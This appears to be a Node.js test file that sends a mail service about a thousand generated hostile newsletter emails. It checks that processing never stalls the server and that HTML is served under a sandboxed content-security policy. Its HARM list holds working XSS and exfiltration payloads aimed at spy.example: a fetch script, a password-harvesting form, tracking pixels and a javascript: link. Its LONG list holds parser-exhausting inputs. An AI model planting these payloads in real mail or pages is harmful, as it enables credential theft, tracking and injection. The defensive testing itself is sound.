import assert from 'node:assert/strict';
import { monitorEventLoopDelay } from 'node:perf_hooks';
import { test } from 'node:test';
import { addDropBox } from '../../testing/hand-in.ts';
import { MAIL_DROP, startTestApp } from '../../testing/test-app.ts';
import { handOver, signedHeaders } from '../testing/hand-over.ts';
import { mailText } from '../testing/mail-text.ts';

// Limits of time, which hold on a machine that does nothing else: `npm run test:long`.
const MAILS = Number(process.env.TEST_HOSTILE_MAILS ?? 1_000);
const HELD_MAX_MS = 50;
const SHOWN_MAX_MS = 3_000;

/** What newsletters are made of to do harm, of which each has several. */
const HARM = [
  '<script>top.document.title = "Taken"; fetch("https://spy.example/script");</script>',
  '<form action="https://spy.example/form"><input name="password"><button>Answer</button></form>',
  '<img src="https://spy.example/pixel.gif"><link rel="stylesheet" href="https://spy.example/css">',
  '<svg onload="alert(1)"><foreignObject><iframe src="https://spy.example/frame"></iframe></foreignObject></svg>',
  '<table><tr><td style="background:url(https://spy.example/back)">Offer</td></tr></table>',
  '<!-- <b --><a title=">" href="javascript:alert(1)">x</a><![CDATA[<b>]]>',
];
const LONG = [
  () => '<div>'.repeat(200_000),
  () => `<a title="${'<'.repeat(1_000_000)}`,
  () => '<!--'.repeat(250_000),
  () => '&#x41;'.repeat(170_000),
  () => '<p>Offer</p>'.repeat(80_000),
  () => `<style>${'a{b:c}'.repeat(160_000)}`,
];

/** A mail that is another one for each number. */
function hostile(n: number): Parameters<typeof mailText>[0] {
  const some = HARM.filter((_, index) => (n >> index) % 2 === 0).join('\n');
  const html = `<h1>Offer ${n}</h1>${some}${LONG[n % LONG.length]!()}`;
  const part = '--b\r\nContent-Type: image/gif; name="a.gif"\r\n\r\nGIF89a\r\n';
  // Parts without end take the thread all the time that it has, so only some have them.
  const parts = n % 25 === 0 ? part.repeat(20_000) : part.repeat(n % 7);
  const body = `--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n${html}\r\n${parts}--b--`;
  return { subject: `Offer ${n}`, id: `${n}@spy.example`, type: 'multipart/mixed; boundary=b', body };
}

test(`${MAILS} hostile mails hold the service 50 ms at the most, and each is shown in 3 s`, async (t) => {
  const app = await startTestApp({ mail_drop: MAIL_DROP });
  t.after(() => app.close());
  const ada = await app.addUser('Ada');
  const account_uuid = await app.addAccount(ada);
  const call = (method: string, path: string, body?: object) =>
    app.call(method, `/api/v2${path}`, { as: ada, body });
  const emails = [{ value: 'grace@navy.example' }];
  await call('POST', '/contacts', { account_uuid, last_name: 'Hopper', emails });
  const address = await addDropBox(app, account_uuid, ada);
  const domain = ada.email.slice(ada.email.indexOf('@') + 1);
  const proof = `Authentication-Results: ${MAIL_DROP.authserv_id}; dkim=pass header.d=${domain}\r\n`;
  const worst = { held_ms: 0, shown_ms: 0 };
  for (let n = 0; n < MAILS; n++) {
    app.clock.advance(6_000);
    const now = app.clock.now();
    const mail = { ...hostile(n), from: ada.email, to: 'grace@navy.example', date: now };
    const bytes = Buffer.from(proof + mailText(mail));
    const headers = signedHeaders(address, bytes, { now, key: MAIL_DROP.key });
    // What the test itself has made is over.
    await new Promise((resolve) => setImmediate(resolve));
    const delay = monitorEventLoopDelay({ resolution: 1 });
    delay.enable();
    assert.equal((await handOver(app.base_url, bytes, headers)).status, 204);
    const began = performance.now();
    const [{ uuid }] = (await call('GET', '/mails?limit=1')).body.data;
    const { subject } = (await call('GET', `/mails/${uuid}`)).body.data;
    const html = await fetch(`${app.base_url}/api/v2/mails/${uuid}/html`, {
      headers: { authorization: `Bearer ${ada.token}` },
    });
    await html.text();
    worst.shown_ms = Math.max(worst.shown_ms, performance.now() - began);
    delay.disable();
    worst.held_ms = Math.max(worst.held_ms, delay.max / 1e6);
    assert.equal(subject, `Offer ${n}`);
    if (html.status === 200)
      assert.match(html.headers.get('content-security-policy')!, /^sandbox .*default-src 'none'/);
    else assert.equal(html.status, 404);
  }
  t.diagnostic(JSON.stringify(worst));
  assert.ok(worst.held_ms <= HELD_MAX_MS, `held for ${worst.held_ms} ms`);
  assert.ok(worst.shown_ms <= SHOWN_MAX_MS, `shown after ${worst.shown_ms} ms`);
});
